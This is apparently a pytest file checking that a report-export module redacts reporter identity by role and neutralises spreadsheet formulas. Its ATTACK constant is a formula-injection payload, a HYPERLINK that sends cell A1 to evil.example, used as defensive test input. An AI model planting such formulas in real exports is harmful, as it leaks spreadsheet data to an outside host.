"""Report exports: each role sees what it may, no formula reaches a spreadsheet."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
from sqlalchemy.orm import Session

from geo.reports.export import export_reports
from geo.reports.intake import submit
from geo.settings import Settings

ATTACK = '=HYPERLINK("http://evil.example/"&A1,"lihat foto")'


def _reports(session: Session, settings: Settings) -> None:
    submit(
        session=session,
        channel="hotline",
        lat=-0.42,
        lon=117.0,
        description=ATTACK,
        reporter_name="Budi Santoso",
        reporter_phone="0812-3333-4444",
        confidentiality="anonim",
        settings=settings,
        match=False,
    )
    submit(
        session=session,
        channel="lapor",
        lat=-0.5,
        lon=117.1,
        external_id="LAPOR-77",
        description="alat berat di sungai",
        settings=settings,
        match=False,
    )
    session.flush()


def test_an_analyst_export_has_no_identity_and_no_live_formula(
    session: Session, settings: Settings, tmp_path: Path
) -> None:
    _reports(session, settings)
    out = export_reports(
        session=session, path=tmp_path / "laporan.xlsx", role="analyst", settings=settings
    )
    assert out.rows == 2
    sheet = openpyxl.load_workbook(out.path).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)  # nothing a spreadsheet would run
    values = {str(c.value) for c in cells if c.value is not None}
    assert "'" + ATTACK in values
    assert not any("Budi" in v or "3333" in v for v in values)
    header = [c.value for c in next(sheet.iter_rows())]
    assert "reporter_phone" not in header and "received_at" in header


def test_a_partner_gets_anonim_reports_only_and_operators_get_identity(
    session: Session, settings: Settings, tmp_path: Path
) -> None:
    _reports(session, settings)
    partner = export_reports(
        session=session, path=tmp_path / "mitra.csv", role="partner", settings=settings
    )
    with partner.path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == 1 and "LAPOR-77" not in str(rows)  # the rahasia LAPOR! ticket stays in
    operator = export_reports(
        session=session, path=tmp_path / "op.csv", role="operator", settings=settings
    )
    with operator.path.open(newline="", encoding="utf-8") as fh:
        named = {r["reporter_name"] for r in csv.DictReader(fh)}
    assert "Budi Santoso" in named
    times = [r["received_at"] for r in rows]
    assert all(t.endswith("+08:00") for t in times)  # WITA, with its offset


def test_an_export_imports_back_as_the_same_reports(
    fresh_database_url: str, settings: Settings, tmp_path: Path
) -> None:
    from geo import migrate
    from geo.db import make_engine
    from geo.reports.importer import import_file

    # Its own database: the import commits, and other tests count the session database's rows.
    engine = make_engine(fresh_database_url)
    migrate.upgrade(engine)
    try:
        with Session(engine) as session:
            _reports(session, settings)
            session.commit()
            # The operator's export carries the identity, so each row is the same report.
            out = export_reports(
                session=session, path=tmp_path / "kembali.csv", role="operator", settings=settings
            )
        with out.path.open(newline="", encoding="utf-8") as fh:
            cells = [c for row in csv.reader(fh) for c in row]
        assert "'" + ATTACK in cells  # guarded on the way out ...
        summary = import_file(
            engine=engine, path=out.path, settings=settings, progress=False, match=False
        )
    finally:
        engine.dispose()
    # ... and read back exactly: every row is recognised as a report already stored.
    assert summary.rows >= 2 and summary.inserted == 0 and not summary.rejected
    assert summary.unknown_columns == []  # the export's own columns are known
